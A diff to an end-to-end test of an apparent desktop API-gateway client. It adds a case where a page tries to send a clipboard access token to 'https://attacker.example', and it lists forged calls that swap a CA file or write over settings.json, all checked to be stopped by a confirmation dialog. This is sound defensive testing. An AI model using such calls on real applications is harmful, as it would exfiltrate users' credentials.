@@ -146,7 +146,13 @@ test('proxy, CA file and addresses change only by a dialog of main, and by no ca
       ok: true,
       value: { ok: true, value: false },
     });
-  expect(await app.dialogs.asked()).toHaveLength(cancelled.length);
+  // The user has copied a token; the page says where it is to be sent.
+  await app.clipboard.write(gateway.token);
+  const aimed = { accountId: null, baseUrl: 'https://attacker.example' };
+  expect(await invoke(app, 'signInFromClipboard', aimed)).toMatchObject({ value: { ok: true } });
+  expect((await app.dialogs.asked()).at(-1)?.message).toBe('Send your access token to attacker.example?');
+  await expect(row(page, 'production')).toContainText('$60.00');
+  expect(await app.dialogs.asked()).toHaveLength(cancelled.length + 1);
   const forged: [CallName, object][] = [
     ['chooseExtraCa', { path: '/etc/ssl/certs/ca.pem' }],
     ['exportHistory', { format: 'csv', path: join(app.userData, 'settings.json') }],
@@ -165,7 +171,7 @@ test('proxy, CA file and addresses change only by a dialog of main, and by no ca
   expect(await invoke(app, 'openLink', { link: 'access-token-page' })).toMatchObject({ value: { ok: true } });
   expect(await app.externalLinks()).toEqual(['https://www.cometapi.com/console/personal']);
   report(
-    'another proxy, a CA file, another page, a file to write: the dialog of main dismissed',
+    'another proxy, CA file or page, a file to write, a token sent elsewhere: the dialog of main dismissed',
     'nothing changed',
   );
   report("another base URL, a path, an address of the page's own in a call", 'invalid-input');
